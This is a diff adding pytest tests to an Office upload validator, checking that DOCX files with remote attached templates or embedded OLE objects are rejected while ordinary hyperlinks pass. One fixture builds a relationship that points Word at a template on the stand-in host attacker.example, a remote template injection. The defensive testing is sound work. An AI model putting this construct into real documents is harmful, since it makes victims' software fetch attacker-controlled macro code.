@@ -137,3 +137,60 @@ def test_fuzz_zip_containers(entries, compression):
     assert ("word/document.xml" in names) or ("xl/workbook.xml" in names)
     assert not any(".." in n.split("/") for n in names)
     assert result.content_type in (DOCX, XLSX)
+
+
+REMOTE_TEMPLATE = (
+    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
+)
+EXTERNAL_HYPERLINK = (
+    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
+    b'Target="https://www.nacc.go.th/" TargetMode="External"/></Relationships>'
+)
+
+
+def test_remote_template_refused():
+    with pytest.raises(UploadRejected, match="external"):
+        check(
+            office(
+                {
+                    "[Content_Types].xml": CT,
+                    "word/document.xml": b"x",
+                    "word/_rels/settings.xml.rels": REMOTE_TEMPLATE,
+                }
+            )
+        )
+
+
+def test_embedded_objects_refused():
+    with pytest.raises(UploadRejected, match="embedded"):
+        check(
+            office(
+                {
+                    "[Content_Types].xml": CT,
+                    "word/document.xml": b"x",
+                    "word/embeddings/oleObject1.bin": b"x",
+                }
+            )
+        )
+
+
+def test_ordinary_hyperlinks_and_printer_settings_accepted():
+    docx = office(
+        {
+            "[Content_Types].xml": CT,
+            "word/document.xml": b"x",
+            "word/_rels/document.xml.rels": EXTERNAL_HYPERLINK,
+        }
+    )
+    assert check(docx).content_type == DOCX
+    xlsx = office(
+        {
+            "[Content_Types].xml": CT,
+            "xl/workbook.xml": b"x",
+            "xl/printerSettings/printerSettings1.bin": b"x",
+        }
+    )
+    assert check(xlsx).content_type == XLSX
